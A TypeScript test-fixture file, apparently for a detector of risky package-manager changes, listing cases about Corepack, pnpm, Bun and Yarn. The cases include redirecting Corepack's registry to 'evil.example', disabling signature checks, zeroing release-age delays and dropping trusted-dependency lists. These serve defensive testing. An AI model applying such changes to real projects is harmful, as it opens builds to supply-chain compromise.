import { APP, PNPM_LOCK } from "./app.ts";
import type { Attack, AttackClass, Files } from "./attack.ts";
import { hashOf, lockWith, manifestWith } from "./npm-app.ts";
import { changed } from "./other-locks.ts";

const WORKFLOW = ".github/workflows/release.yml";
const SETTINGS = "pnpm-workspace.yaml";
const HASH = `+sha512.${"a".repeat(128)}`;

function pnpm(version: string, fields: Readonly<Record<string, unknown>> = {}): Files {
  return { "package.json": manifestWith({ packageManager: `pnpm@${version}`, ...fields }) };
}

/** pnpm installs, with variables of Corepack's for all jobs. */
function corepack(variables: string): Files {
  const { [WORKFLOW]: workflow } = PNPM;
  const env = `on: push\nenv:\n  ${variables}\n`;
  return { [WORKFLOW]: changed(String(workflow), ["on: push\n", env]) };
}

const PNPM: Files = {
  "package-lock.json": null,
  ...pnpm("10.20.0"),
  "pnpm-lock.yaml": PNPM_LOCK,
  [WORKFLOW]: changed(APP[WORKFLOW], ["npm ci", "pnpm install"]),
};

/** The app with npm, beside a lockfile of pnpm with another release that nobody wrote anew. */
const STALE = changed(PNPM_LOCK, [hashOf("A"), hashOf("E")]);

const BUN: Files = {
  "package-lock.json": null,
  "package.json": manifestWith({ trustedDependencies: ["left"] }),
  "bun.lock": `{
  "lockfileVersion": 1,
  "workspaces": { "": { "name": "notes", "dependencies": { "left": "^1.0.0" }, "devDependencies": { "vite": "^5.0.0" } } },
  "packages": {
    "left": ["left@1.0.0", "", {}, "${hashOf("A")}"],
    "vite": ["vite@5.4.0", "", {}, "${hashOf("B")}"],
  }
}
`,
  [WORKFLOW]: changed(APP[WORKFLOW], ["npm ci", "bun install"]),
};

/** A setting of pnpm's time that must never pass unseen. */
function age(version: string, minutes: number, real: string): Attack {
  return {
    name: `hears that ${version} waits for ${minutes} minutes`,
    base: { ...PNPM, ...pnpm(version) },
    change: { [SETTINGS]: `minimumReleaseAge: ${minutes}\n` },
    expect: "loud",
    at: SETTINGS,
    rule: "packages/install-guard-removed",
    real,
  };
}

function devEngines(runtime: unknown): Files {
  return pnpm("10.20.0", { devEngines: { runtime } });
}

const NODE = { name: "node", version: "^24.0.0", onFail: "download" };

export const MANAGER_CHOICE: AttackClass = {
  name: "which manager installs, and what it does by itself",
  decides:
    "`packageManager` says who installs and by which hash corepack takes it. Each manager reads its own lockfile, trusts packages of its own and holds new releases back for a time of its own.",
  attacks: [
    {
      name: "hears a registry from which Corepack takes the manager",
      base: PNPM,
      change: corepack("COREPACK_NPM_REGISTRY: https://evil.example"),
      expect: "loud",
      at: WORKFLOW,
      real: "By Corepack's manual. Not tried.",
    },
    {
      name: "hears that Corepack checks no signature",
      base: PNPM,
      change: corepack('COREPACK_INTEGRITY_KEYS: "0"'),
      expect: "loud",
      at: WORKFLOW,
      real: "By Corepack's manual. Not tried.",
    },
    {
      name: "hears that Corepack takes another manager than the manifest names",
      base: PNPM,
      change: corepack('COREPACK_ENABLE_PROJECT_SPEC: "0"'),
      expect: "loud",
      at: WORKFLOW,
      real: "By Corepack's manual. Not tried.",
    },
    {
      name: "hears variables of Corepack in a file",
      base: PNPM,
      change: { ".corepack.env": "COREPACK_NPM_REGISTRY=https://evil.example\n" },
      expect: "loud",
      at: ".corepack.env",
      real: "By Corepack's manual, 0.31 and later read the file. Not tried.",
    },
    {
      name: "says nothing of how Corepack asks people",
      base: PNPM,
      change: corepack('COREPACK_ENABLE_DOWNLOAD_PROMPT: "0"\n  COREPACK_ENABLE_STRICT: "1"'),
      expect: "silent",
      real: "It decides nothing of what is downloaded.",
    },
    {
      name: "hears another hash of the same manager",
      base: { ...PNPM, ...pnpm(`10.20.0${HASH}`) },
      change: pnpm(`10.20.0+sha512.${"e".repeat(128)}`),
      expect: "loud",
      rule: "packages/install-guard-removed",
      at: "package.json",
      real: "corepack 0.34 takes only the archive that has the hash. Not tried.",
    },
    {
      name: "hears a hash that is gone",
      base: { ...PNPM, ...pnpm(`10.20.0${HASH}`) },
      change: pnpm("10.21.0"),
      expect: "loud",
      rule: "packages/install-guard-removed",
      real: "corepack then takes what the registry answers, by its signature. Not tried.",
    },
    {
      name: "says nothing of a newer manager with its hash",
      base: { ...PNPM, ...pnpm(`10.20.0${HASH}`) },
      change: pnpm(`10.21.0+sha512.${"c".repeat(128)}`),
      expect: "silent",
      real: "`corepack use` writes both.",
    },
    {
      name: "says nothing of a hash that comes in",
      base: PNPM,
      change: pnpm(`10.20.0${HASH}`),
      expect: "silent",
      real: "It takes less than before.",
    },
    {
      name: "lets a lockfile count that nobody wrote anew, by packageManager",
      base: {
        ...devEngines(undefined),
        "pnpm-lock.yaml": STALE,
        "package.json": manifestWith({ packageManager: "npm@11.0.0" }),
      },
      change: pnpm("10.20.0"),
      expect: "loud",
      at: "pnpm-lock.yaml",
      real: "A step that asks the manifest who installs (`pnpm/action-setup`, corepack) takes pnpm then.",
    },
    {
      name: "lets it count by devEngines",
      base: { "pnpm-lock.yaml": STALE },
      change: {
        "package.json": manifestWith({ devEngines: { packageManager: { name: "pnpm", version: "10" } } }),
      },
      expect: "loud",
      at: "pnpm-lock.yaml",
      real: "By the manuals, not run: npm refuses to install then, and pnpm doesn't.",
    },
    {
      name: "says nothing where both lockfiles hold the same",
      base: { "pnpm-lock.yaml": PNPM_LOCK, "package.json": manifestWith({ packageManager: "npm@11.0.0" }) },
      change: pnpm("10.20.0"),
      expect: "silent",
      real: "The same packages are installed.",
    },
    {
      name: "takes away the list of the trusted, so that Bun goes by its own",
      base: BUN,
      change: { "package.json": manifestWith({}) },
      expect: "loud",
      rule: "packages/install-guard-removed",
      real: "By Bun's manual: a list of the project's replaces its own.",
    },
    {
      name: "takes away an empty one, while the lockfile still has names",
      base: {
        ...BUN,
        "package.json": manifestWith({ trustedDependencies: [] }),
        "bun.lock": changed(BUN["bun.lock"] as string, [
          '  "packages"',
          '  "trustedDependencies": ["left"],\n  "packages"',
        ]),
      },
      change: { "package.json": manifestWith({}) },
      expect: "loud",
      rule: "packages/install-guard-removed",
      real: "By Bun's manual: an empty list trusts nobody.",
    },
    {
      name: "says nothing of a list that goes where nobody installs with Bun",
      base: { "package.json": manifestWith({ trustedDependencies: ["left"] }) },
      change: { "package.json": manifestWith({}) },
      expect: "silent",
      real: "npm doesn't read it.",
    },
    {
      name: "says nothing of a list that gets shorter",
      base: BUN,
      change: { "package.json": manifestWith({ trustedDependencies: [] }) },
      expect: "silent",
      real: "Nobody is trusted then.",
    },
    age("11.1.0", 60, "By the manual of pnpm 11: one day is the default."),
    age("^11.0.0", 0, "By the manual of pnpm: 0 turns it off."),
    {
      name: "hears a shorter time of Yarn's where no release is named",
      base: { ".yarnrc.yml": "nodeLinker: node-modules\n" },
      change: { ".yarnrc.yml": "nodeLinker: node-modules\nnpmMinimalAgeGate: 1h\n" },
      expect: "loud",
      at: ".yarnrc.yml",
      real: "By the manual of Yarn 4.18: one day is the default.",
    },
    {
      name: "hears a flag without a time",
      base: { ...PNPM, [SETTINGS]: "minimumReleaseAge: 10080\n" },
      change: { [WORKFLOW]: changed(APP[WORKFLOW], ["npm ci", "pnpm install --config.minimumReleaseAge=0"]) },
      expect: "loud",
      at: WORKFLOW,
      real: "A flag goes before the file. Not tried.",
    },
    {
      name: "says nothing of a short time for a pnpm that holds back nothing itself",
      base: PNPM,
      change: { [SETTINGS]: "minimumReleaseAge: 60\n" },
      expect: "silent",
      real: "By the manual of pnpm 10: nothing is the default.",
    },
    {
      name: "says nothing of a longer time",
      base: { ...PNPM, ".yarnrc.yml": "npmMinimalAgeGate: 3d\n", [SETTINGS]: "minimumReleaseAge: 1440\n" },
      change: { ".yarnrc.yml": "npmMinimalAgeGate: 1w\n", [SETTINGS]: "minimumReleaseAge: 10080\n" },
      expect: "silent",
      real: "It holds back more.",
    },
    {
      name: "installs with npm what only pnpm has a lockfile for",
      base: PNPM,
      change: {
        "package.json": manifestWith({}),
        [WORKFLOW]: changed(APP[WORKFLOW], ["npm ci", "npm install"]),
      },
      expect: "loud",
      real: "By the manuals of npm and pnpm, not run: npm resolves anew, and runs the scripts that pnpm 10 let wait.",
    },
    {
      name: "says nothing of npm with the same packages in its lockfile",
      base: { ...PNPM, "package-lock.json": lockWith({}) },
      change: {
        "package.json": manifestWith({}),
        [WORKFLOW]: APP[WORKFLOW],
        "pnpm-lock.yaml": null,
      },
      expect: "silent",
      real: "The same packages are installed, and none has a script.",
    },
    {
      name: "hears a runtime that pnpm downloads",
      base: PNPM,
      change: devEngines(NODE),
      expect: "loud",
      rule: "build/installer-extended",
      at: "package.json",
      real: "By the manual of pnpm 10.14: it fetches Node and starts scripts with it.",
    },
    {
      name: "hears one in a list",
      base: { ...PNPM, ...devEngines([{ ...NODE, onFail: "warn" }]) },
      change: devEngines([
        { ...NODE, onFail: "warn" },
        { ...NODE, name: "bun" },
      ]),
      expect: "loud",
      at: "package.json",
      real: "By the manual of pnpm.",
    },
    {
      name: "says nothing of a runtime that is only asked for, nor of its newer release",
      base: { ...PNPM, ...devEngines(NODE) },
      change: devEngines([
        { ...NODE, version: "^26.0.0" },
        { name: "deno", version: "2", onFail: "warn" },
      ]),
      expect: "silent",
      real: "pnpm warns of the second.",
    },
  ],
};
